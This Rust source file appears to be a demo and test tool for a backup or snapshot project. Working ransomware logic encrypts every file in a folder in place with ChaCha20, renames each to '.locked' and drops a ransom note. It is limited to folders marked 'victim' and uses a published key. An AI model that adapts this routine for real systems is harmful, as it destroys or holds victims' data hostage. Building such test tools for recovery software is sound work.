// SPDX-License-Identifier: GPL-2.0

//! `bdsnap-ransom DIR`: encrypts the files below DIR in place, as ransomware
//! does: each is overwritten, synced and renamed to `NAME.locked`, and a note
//! is left. For the demo and for tests.
//!
//! It works only in a folder that holds a file named `victim`, and its key is
//! in this source, so that an accident is no tragedy: ChaCha20 is its own
//! inverse.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

/// A folder without it is left alone.
const MARK: &str = "victim";
const SUFFIX: &str = "locked";
const NOTE: &str = "READ-ME-NOW.txt";
const KEY: &[u8; 32] = b"not a secret: bdsnap's demo key.";

fn main() -> ExitCode {
    let mut args = std::env::args_os().skip(1);
    let (Some(dir), None) = (args.next(), args.next()) else {
        eprintln!("usage: bdsnap-ransom DIR");
        return ExitCode::from(2);
    };
    match attack(Path::new(&dir)) {
        Ok((files, bytes)) => {
            println!("{files} files, {:.1} MiB encrypted in place", bytes as f64 / 1048576.0);
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("bdsnap-ransom: {e}");
            ExitCode::FAILURE
        }
    }
}

/// Encrypts what is below `dir`; returns numbers of files and bytes.
fn attack(dir: &Path) -> io::Result<(u64, u64)> {
    if !dir.join(MARK).is_file() {
        let why = format!("{} has no file '{MARK}': left alone", dir.display());
        return Err(io::Error::new(io::ErrorKind::PermissionDenied, why));
    }
    let mut files = Vec::new();
    collect(dir, &mut files)?;
    files.sort();
    let mut bytes = 0;
    for (i, path) in files.iter().enumerate() {
        bytes += encrypt(path, i as u64)?;
        let mut locked = path.clone().into_os_string();
        locked.push(".");
        locked.push(SUFFIX);
        fs::rename(path, locked)?;
    }
    fs::write(dir.join(NOTE), "All your files are encrypted. Pay, or use bdsnap-restore.\n")?;
    Ok((files.len() as u64, bytes))
}

fn collect(dir: &Path, files: &mut Vec<PathBuf>) -> io::Result<()> {
    for entry in fs::read_dir(dir)? {
        let entry = entry?;
        let kind = entry.file_type()?;
        if kind.is_dir() {
            collect(&entry.path(), files)?;
        } else if kind.is_file() && entry.file_name() != MARK {
            files.push(entry.path());
        }
    }
    Ok(())
}

fn encrypt(path: &Path, nonce: u64) -> io::Result<u64> {
    let mut file: File = OpenOptions::new().read(true).write(true).open(path)?;
    let mut buf = vec![0; 256 << 10];
    let mut at = 0u64;
    loop {
        file.seek(SeekFrom::Start(at))?;
        let n = (&mut file).take(buf.len() as u64).read(&mut buf)?;
        if n == 0 {
            break;
        }
        // A short read may end inside a block of the cipher: only a file's end does.
        let n = if n % 64 == 0 || at + n as u64 == file.metadata()?.len() { n } else { n - n % 64 };
        cipher(&mut buf[..n], nonce, at / 64);
        file.seek(SeekFrom::Start(at))?;
        file.write_all(&buf[..n])?;
        at += n as u64;
    }
    file.sync_all()?;
    Ok(at)
}

/// ChaCha20 with a 64-bit nonce over `data`, from block number `block` on.
fn cipher(data: &mut [u8], nonce: u64, block: u64) {
    let mut state = [0u32; 16];
    state[..4].copy_from_slice(&[0x6170_7865, 0x3320_646e, 0x7962_2d32, 0x6b20_6574]);
    for (word, bytes) in state[4..12].iter_mut().zip(KEY.chunks_exact(4)) {
        *word = u32::from_le_bytes(bytes.try_into().expect("four bytes"));
    }
    state[14] = nonce as u32;
    state[15] = (nonce >> 32) as u32;
    for (i, part) in data.chunks_mut(64).enumerate() {
        let counter = block + i as u64;
        state[12] = counter as u32;
        state[13] = (counter >> 32) as u32;
        let mut x = state;
        for _ in 0..10 {
            for [a, b, c, d] in [
                [0, 4, 8, 12],
                [1, 5, 9, 13],
                [2, 6, 10, 14],
                [3, 7, 11, 15],
                [0, 5, 10, 15],
                [1, 6, 11, 12],
                [2, 7, 8, 13],
                [3, 4, 9, 14],
            ] {
                x[a] = x[a].wrapping_add(x[b]);
                x[d] = (x[d] ^ x[a]).rotate_left(16);
                x[c] = x[c].wrapping_add(x[d]);
                x[b] = (x[b] ^ x[c]).rotate_left(12);
                x[a] = x[a].wrapping_add(x[b]);
                x[d] = (x[d] ^ x[a]).rotate_left(8);
                x[c] = x[c].wrapping_add(x[d]);
                x[b] = (x[b] ^ x[c]).rotate_left(7);
            }
        }
        let key = x.iter().zip(&state).flat_map(|(a, b)| a.wrapping_add(*b).to_le_bytes());
        for (byte, k) in part.iter_mut().zip(key) {
            *byte ^= k;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn twice_is_nothing_and_pieces_fit() {
        let plain: Vec<u8> = (0..1000u32).map(|i| i as u8).collect();
        let mut whole = plain.clone();
        cipher(&mut whole, 7, 0);
        assert!(whole.iter().zip(&plain).filter(|(a, b)| a == b).count() < 50);
        let mut pieces = plain.clone();
        cipher(&mut pieces[..640], 7, 0);
        cipher(&mut pieces[640..], 7, 10);
        assert_eq!(pieces, whole);
        cipher(&mut whole, 7, 0);
        assert_eq!(whole, plain);
    }

    #[test]
    fn only_where_it_is_allowed() {
        let dir = std::env::temp_dir().join(format!("bdsnap-ransom.{}", std::process::id()));
        fs::create_dir_all(dir.join("sub")).unwrap();
        fs::write(dir.join("sub/file"), [7u8; 70_000]).unwrap();
        assert!(attack(&dir).is_err());
        assert_eq!(fs::read(dir.join("sub/file")).unwrap(), [7u8; 70_000]);
        fs::write(dir.join(MARK), "").unwrap();
        assert_eq!(attack(&dir).unwrap(), (1, 70_000));
        let mut locked = fs::read(dir.join("sub/file.locked")).unwrap();
        assert_ne!(locked, [7u8; 70_000]);
        cipher(&mut locked, 0, 0);
        assert_eq!(locked, [7u8; 70_000]);
        assert!(dir.join(NOTE).exists());
        fs::remove_dir_all(&dir).unwrap();
    }
}
